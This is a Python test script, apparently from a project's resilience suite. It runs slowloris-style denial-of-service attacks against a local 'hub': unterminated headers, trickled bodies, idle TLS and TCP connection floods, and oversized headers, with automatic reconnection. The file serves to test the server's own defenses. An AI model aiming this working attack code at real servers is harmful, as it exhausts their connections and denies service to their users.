"""`python -m proof.attacks.attacker NAME PORT`: one attack on a hub of this machine, without a certificate, until it is
ended. A connection that the hub ends is opened again."""

import contextlib
import itertools
import os
import socket
import ssl
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

ADDRESSES: Final = 125
PACE_SECONDS: Final = 0.05
HEAD: Final = b"GET /healthz HTTP/1.1\r\nHost: hub\r\n"
BODY: Final = b"POST /v1/tickets HTTP/1.1\r\nHost: hub\r\nContent-Length: 100000\r\n\r\n{"


@dataclass(frozen=True, slots=True)
class Attack:
    """`lines` connections say `begins`, and then `goes_on` again and again, each `pace_s`."""

    lines: int = 1
    begins: bytes = b""
    goes_on: bytes = b""
    pace_s: float = PACE_SECONDS
    tls: bool = True


ATTACKS: Final = {
    "address_without_end": Attack(begins=b"GET /", goes_on=b"a" * 65_536, pace_s=0),
    "header_without_end": Attack(begins=HEAD + b"X: ", goes_on=b"a" * 65_536, pace_s=0),
    "headers_without_end": Attack(begins=HEAD, goes_on=b"A: b\r\n" * 10_000, pace_s=0),
    "silent_tcp": Attack(lines=1000, tls=False),
    "silent_tls": Attack(lines=1000),
    "half_head": Attack(lines=200, begins=HEAD),
    "head_by_bytes": Attack(lines=200, begins=HEAD, goes_on=b"x", pace_s=1),
    "half_body": Attack(lines=200, begins=BODY),
    "body_by_bytes": Attack(lines=200, begins=BODY, goes_on=b"x", pace_s=1),
    "long_heads": Attack(begins=HEAD + b"X: " + b"a" * 60_000, goes_on=b"\r\n\r\n"),
}


def opened(attack: Attack, port: int, number: int) -> socket.socket:
    source = (f"127.0.1.{number % ADDRESSES + 1}", 0)
    line = socket.create_connection(("127.0.0.1", port), 5, source_address=source)
    if attack.tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        line = context.wrap_socket(line)
    line.sendall(attack.begins)
    return line


def go_on(attack: Attack, lines: dict[int, socket.socket], port: int, number: int) -> None:
    if number not in lines:
        lines[number] = opened(attack, port, number)
    elif attack.goes_on:
        lines[number].sendall(attack.goes_on)


def close(ended: socket.socket | None) -> None:
    if ended is not None:
        ended.close()


def waves(attack: Attack, port: int) -> Iterator[int]:
    """Each pass over all connections; how many are open."""
    lines: dict[int, socket.socket] = {}
    while True:
        for number in range(attack.lines):
            try:
                go_on(attack, lines, port, number)
            except OSError:
                close(lines.pop(number, None))
        yield len(lines)


def main() -> None:
    os.nice(19)  # it stands for another machine
    attack, port = ATTACKS[sys.argv[1]], int(sys.argv[2])
    with contextlib.suppress(KeyboardInterrupt):
        for wave, _ in zip(itertools.count(), waves(attack, port), strict=False):
            if wave == 0:
                print("attacking", flush=True)
            time.sleep(attack.pace_s)


if __name__ == "__main__":
    main()
